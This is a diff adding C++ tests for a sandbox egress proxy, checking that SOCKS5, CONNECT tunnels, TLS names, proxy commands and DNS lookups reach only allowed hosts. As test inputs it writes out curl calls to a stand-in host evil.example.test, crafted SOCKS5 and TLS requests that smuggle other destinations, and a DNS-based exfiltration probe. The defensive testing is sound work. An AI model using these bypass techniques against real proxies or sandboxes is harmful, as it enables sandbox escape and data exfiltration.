@@ -46,7 +46,9 @@ class HostListener {
     server_ = std::thread([this, body] {
       for (int client; (client = accept(fd_, nullptr, nullptr)) >= 0; close(client)) {
         char request[4096];
-        if (read(client, request, sizeof request) <= 0) continue;
+        const ssize_t got = read(client, request, sizeof request);
+        if (got <= 0) continue;
+        received_.append(request, static_cast<std::size_t>(got));
         const std::string reply =
             "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" +
             body;
@@ -56,8 +58,16 @@ class HostListener {
   }
   int port() const { return port_; }
 
+  /// All that anybody sent. Ends the listening.
+  std::string received() {
+    shutdown(fd_, SHUT_RDWR);
+    if (server_.joinable()) server_.join();
+    return received_;
+  }
+
  private:
   int fd_, port_ = 0;
+  std::string received_;
   std::thread server_;
 };
 
@@ -292,4 +302,132 @@ TEST_CASE("an allowed host is no way to smuggle a request for another") {
     INFO(request);
     CHECK(ask(request).find("403 Forbidden") != std::string::npos);
   }
+}
+
+TEST_CASE("an allowed host is reached by SOCKS5 too, and by nothing else that SOCKS can say") {
+  Cage cage;
+  HostListener listener;
+  listener.serve("hello");
+  const std::string target = "127.0.0.1:" + std::to_string(listener.port());
+  cage.profile.network_allow = {target};
+  cage.options.private_egress = true;
+  const Execution execution = cage.sh(
+      "curl --noproxy '' -sS -m 5 --socks5-hostname 127.0.0.1:3128 http://" + target +
+      "/; curl --noproxy '' -m 5 --socks5-hostname 127.0.0.1:3128 http://evil.example.test/ 2>/dev/null; echo $?");
+  CHECK(text(execution.out) == "hello97\n");
+  CHECK(execution.violations == std::vector<Violation>{egress("evil.example.test:80")});
+  const auto ask = [&](const std::string& request) {
+    return text(cage.sh("python3 -c \"import socket; s=socket.create_connection(('127.0.0.1',3128)); s.settimeout(5); "
+                        "s.sendall(b'\\x05\\x01\\x00'); s.recv(2); s.sendall(" +
+                        request + "); print(s.recv(10)[1])\"")
+                    .out);
+  };
+  const std::string port = "(" + std::to_string(listener.port()) + ").to_bytes(2,'big')";
+  CHECK(ask("b'\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01'+" + port) == "0\n");
+  for (const auto& [name, request] : std::vector<std::pair<const char*, std::string>>{
+           {"another host behind a zero byte", "b'\\x05\\x01\\x00\\x03\\x12evil.test\\x00127.0.0.1'[:23]+" + port},
+           {"a number for a name", "b'\\x05\\x01\\x00\\x03\\x0a2130706433'+" + port},
+           {"a trailing dot", "b'\\x05\\x01\\x00\\x03\\x0a127.0.0.1.'+" + port},
+           {"user information", "b'\\x05\\x01\\x00\\x03\\x0cx@127.0.0.1y'+" + port},
+           {"waiting for a connection from outside", "b'\\x05\\x02\\x00\\x01\\x7f\\x00\\x00\\x01'+" + port},
+           {"an association for UDP", "b'\\x05\\x03\\x00\\x01\\x7f\\x00\\x00\\x01'+" + port},
+           {"IPv6 that is IPv4 in disguise",
+            "b'\\x05\\x01\\x00\\x04'+bytes(10)+b'\\xff\\xff\\x7f\\x00\\x00\\x01'+" + port},
+           {"another port", "b'\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01\\x00\\x16'"},
+       }) {
+    INFO(name);
+    const std::string answer = ask(request);
+    CHECK((answer == "1\n" || answer == "2\n"));
+  }
+}
+
+TEST_CASE("a tunnel to an allowed host is no way to speak TLS with another") {
+  const auto hello = [](const std::string& name, const std::string& rest) {
+    // The listener speaks no TLS: what it received is what counts.
+    return "python3 -c \"import socket,ssl\nc=ssl.create_default_context(); c.check_hostname=False; c.verify_mode=0\n"
+           "s=socket.create_connection(('127.0.0.1',3128)); s.sendall(b'CONNECT " +
+           rest +
+           " HTTP/1.1\\r\\n\\r\\n'); "
+           "s.recv(4096)\ntry: c.wrap_socket(s, server_hostname=" +
+           name + ")\nexcept Exception: pass\n\"";
+  };
+  struct Row {
+    const char* what;
+    std::string name;
+    bool passes;
+    std::vector<Violation> violations;
+  };
+  for (const Row& row :
+       std::vector<Row>{{"another host", "'evil.example.test'", false, {egress("evil.example.test")}},
+                        {"another host that is allowed", "'good.example.test'", true, {}},
+                        {"a sub-domain of it", "'x.good.example.test'", false, {egress("x.good.example.test")}},
+                        {"none, the target being an address", "None", true, {}}}) {
+    INFO(row.what);
+    Cage cage;
+    HostListener listener;
+    listener.serve("");
+    const std::string port = std::to_string(listener.port());
+    cage.profile.network_allow = {"127.0.0.1:" + port, "good.example.test:" + port};
+    cage.options.private_egress = true;
+    const Execution execution = cage.sh(hello(row.name, "127.0.0.1:" + port));
+    INFO(text(execution.err));
+    CHECK(listener.received().starts_with("\x16\x03") == row.passes);
+    std::vector<Violation> expected = row.violations;
+    for (Violation& violation : expected) violation.detail += ":" + port;
+    CHECK(execution.violations == expected);
+  }
+}
+
+TEST_CASE("requests that never end, and that are too long, are given up") {
+  Cage cage;
+  HostListener listener;
+  listener.serve("");
+  const std::string target = "127.0.0.1:" + std::to_string(listener.port());
+  cage.profile.network_allow = {target};
+  cage.options.private_egress = true;
+  for (const std::string& send :
+       {std::string("b'GET http://" + target + "/ HTTP/1.1\\r\\nX: ' + b'a'*40000"),
+        std::string("b'CONNECT " + target +
+                    " HTTP/1.1\\r\\n\\r\\n'); s.recv(99); "
+                    "s.sendall(b'\\x16\\x03\\x01\\x40\\x00\\x01\\xff\\xff\\xff'+bytes(20000)")}) {
+    INFO(send);
+    CHECK(text(cage.sh("python3 -c \"import socket; s=socket.create_connection(('127.0.0.1',3128)); s.settimeout(30)\n"
+                       "try: s.sendall(" +
+                       send + "); print(len(s.recv(4096)))\nexcept ConnectionError: print(0)\n\"")
+                   .out) == "0\n");
+  }
+  CHECK(listener.received().empty());
+}
+
+TEST_CASE("a program that takes a command for a proxy has one, to allowed hosts only") {
+  Cage cage;
+  HostListener listener;
+  listener.serve("by tunnel");
+  const std::string port = std::to_string(listener.port());
+  cage.profile.network_allow = {"127.0.0.1:" + port};
+  cage.options.private_egress = true;
+  const Execution execution =
+      cage.sh("printf 'GET / HTTP/1.0\\r\\n\\r\\n' | /run/escrow/runner --connect 127.0.0.1 " + port +
+              " | tail -1; echo; /run/escrow/runner --connect evil.example.test 22; "
+              "ssh -V 2>/dev/null && GIT_TERMINAL_PROMPT=0 git ls-remote ssh://t@other.example.test/x 2>&1 | grep -c "
+              "'other.example.test:22 is not among'");
+  CHECK(text(execution.out).starts_with("by tunnel\n"));
+  CHECK(execution.violations.front() == egress("evil.example.test:22"));
+  if (cage.sh("ssh -V").exit_code != 0) return skipped("git over ssh", "ssh is not on this machine");
+  CHECK(text(execution.out) == "by tunnel\n1\n");
+  CHECK(execution.violations ==
+        std::vector<Violation>{egress("evil.example.test:22"), egress("other.example.test:22")});
+}
+
+TEST_CASE("the proxy is no way back to itself, and names that are not allowed leave nothing behind") {
+  Cage cage;
+  cage.profile.network_allow = {"127.0.0.1:3128", "good.example.test"};
+  const Execution execution = cage.sh(
+      "curl --noproxy '' -sS -m 5 -o /dev/null -w '%{http_code} ' http://127.0.0.1:3128/; "
+      "getent hosts secret-data.evil.example.test; curl --noproxy '*' -sS -m 3 https://127.64.0.9/ 2>/dev/null; echo "
+      "$?");
+  CHECK(text(execution.out).starts_with("403 "));
+  CHECK(text(execution.out).find("127.64") == std::string::npos);
+  CHECK(std::find(execution.violations.begin(), execution.violations.end(), egress("secret-data.evil.example.test")) !=
+        execution.violations.end());
 }
